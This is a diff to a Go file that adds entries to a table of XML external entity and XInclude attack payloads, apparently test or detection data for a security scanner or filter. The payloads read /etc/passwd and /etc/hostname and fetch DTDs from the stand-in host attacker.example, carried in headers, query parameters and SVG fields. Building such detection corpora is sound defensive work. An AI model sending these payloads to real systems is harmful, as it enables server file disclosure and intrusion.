@@ -66,6 +66,8 @@ func init() {
 		attackEntry{lQ, "xml", `<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></doc>`, "xxe-external-entity", encURL},
 		attackEntry{lJ, "svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="http://attacker.example/a"/></svg>`, "xxe-external-entity", encURL},
 		attackEntry{lF, "data", `<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;`, "xxe-external-entity", encURL},
+		attackEntry{lH, "user-agent", `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://attacker.example/x.dtd"> %e;]>`, "xxe-external-entity", 0},
+		attackEntry{lH, "x-soap-header", `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>`, "xxe-external-entity", 0},
 		attackEntry{lQ, "q", "x!ENTITY % p PUBLIC", "xxe-external-entity", encURL},
 		attackEntry{lC, "state", `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/hostname" parse="text"/></r>`, "xxe-external-entity", encURL},
 		attackEntry{lP, "3", `<!ENTITY % d SYSTEM "http://attacker.example/d.dtd">`, "xxe-external-entity", encURL},
